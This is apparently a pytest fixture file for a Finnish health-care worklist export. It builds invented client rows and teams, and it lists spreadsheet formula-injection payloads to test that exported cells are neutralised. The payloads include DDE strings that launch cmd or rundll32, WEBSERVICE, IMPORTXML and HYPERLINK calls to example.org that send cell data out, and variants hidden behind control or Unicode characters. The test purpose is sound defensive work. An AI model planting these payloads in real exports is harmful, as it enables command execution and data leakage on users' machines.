"""Invented lists to deliver, and the texts that spreadsheets take for formulas."""

from datetime import date

import pytest

from delivery.run_facts import RunFacts
from schemas.register import Register
from schemas.verdict import Verdict
from worklist.lists import TeamList
from worklist.masking import CONTACT_REQUEST
from worklist.routing import Team
from worklist.rows import Reason, Row
from worklist.states import State

AS_OF = date(2026, 11, 22)
FORMULAS = [
    "1+1",
    "cmd|'/C calc'!A0",
    'HYPERLINK("http://example.org/?x="&A1,"avaa")',
    'WEBSERVICE("http://example.org")',
    'IMPORTXML("http://example.org","//a")',
    "SUM(A1:A9)*cmd|' /C notepad'!'A1'",
    "DDE(server;item;value)",
    "rundll32|'URL.dll,OpenURL example.org'!A",
]
SIGNS = ["=", "+", "-", "@", "＝", "＋", "－", "＠"]
BEFORE = ["", "\t", "\r", "\n", " ", "\u00a0", "\ufeff", "\u200b"]
PAYLOADS = [
    *(f"{sign}{formula}" for sign in SIGNS for formula in FORMULAS),
    *(f"{before}{sign}1+1" for sign in SIGNS[:4] for before in BEFORE[1:]),
    *(f"{before}=1+1" for before in ("\x00", "\x0b", "\x1b", "\u202e", "\u2066")),
    "\tteksti",
    "\rteksti",
    "\nteksti",
    "=-+@",
    "=",
    "@",
]
HARMLESS_LOOKING = [
    "{=1+1}",
    "internal:Lista!A1",
    "external:c:\\temp\\x.xlsx",
    "http://example.org",
    "https://example.org/a?b=c",
    "ftp://example.org",
    "mailto:a@example.org",
    "file:///etc/passwd",
    "'=1+1",
    '"=1+1',
    ";=1+1",
    'a";"=1+1',
    "a\r\n=1+1",
    "a,=1+1",
    "0012",
    "1e5",
    "TRUE",
    "#REF!",
    "_x003D_1+1",
    "<f>1+1</f>",
    "]]><f>1</f>",
    "\ufffe\uffff",
    "",
]
ALPHABETS = [
    "Åke Österlund-Äijälä",
    "åäöÅÄÖšžŠŽ",
    "A\u030aa\u0308o\u0308",
    "Sáŋŋá Ǩeäʹrǧǧ Đorvvo Ŧuomas",
    "👩‍⚕️ 🇫🇮",
    "שלום مرحبا",
    "Анна 𝒳",
]


@pytest.fixture(scope="session")
def as_of():
    return AS_OF


@pytest.fixture(scope="session")
def payloads():
    return PAYLOADS


@pytest.fixture(scope="session")
def texts():
    return [*PAYLOADS, *HARMLESS_LOOKING, *ALPHABETS]


@pytest.fixture
def run(as_of):
    return RunFacts(
        county="Keksitty hyvinvointialue",
        as_of=as_of,
        code_version="3f8a",
        decisions={"missed_appointments": date(2026, 1, 1)},
        verdicts={"contacts": Verdict.ADMITTED, "measurements": Verdict.REFUSED},
        trigger_names={"missed_appointments": {"fi": "Käyttämättömät ajat"}},
        teams={
            code: Team(name={"fi": name, "sv": name}, sector=Register.HEALTH)
            for code, name in {
                "home-care": "Kotihoito",
                "station-koivula": "Koivulan terveysasema",
            }.items()
        },
    )


@pytest.fixture
def reason():
    def make(**told):
        return Reason(
            **{
                "trigger": "missed_appointments",
                "name": "Käyttämättömät ajat",
                "facts": ("4 käyttämätöntä aikaa, raja vähintään 3, 12 kk",),
                "asks": "Mikä esti tulemasta?",
                **told,
            }
        )

    return make


@pytest.fixture
def masked():
    return Reason("", CONTACT_REQUEST["fi"], (), "")


@pytest.fixture
def row(reason, as_of):
    def make(client_id="c1", **told):
        if told.get("listed_on", as_of) is None:
            told["state"] = State.WAITING
        return Row(
            **{
                "client_id": client_id,
                "opened_on": as_of,
                "listed_on": as_of,
                "age": 44,
                "language": "fi",
                "segment": None,
                "families": 1,
                "newest_on": date(2026, 11, 3),
                "reasons": (reason(),),
                **told,
            }
        )

    return make


@pytest.fixture
def team_list(as_of):
    def make(
        rows=(),
        queue=(),
        notices=(),
        code="station-koivula",
        language="fi",
        snoozed=(),
    ):
        team = Team(
            name={"fi": "Koivulan terveysasema", "sv": "Björkby hälsostation"},
            sector=Register.HEALTH,
            language=language,
        )
        waiting, told = tuple(queue), tuple(notices)
        return TeamList(code, team, as_of, tuple(rows), waiting, told, tuple(snoozed))

    return make
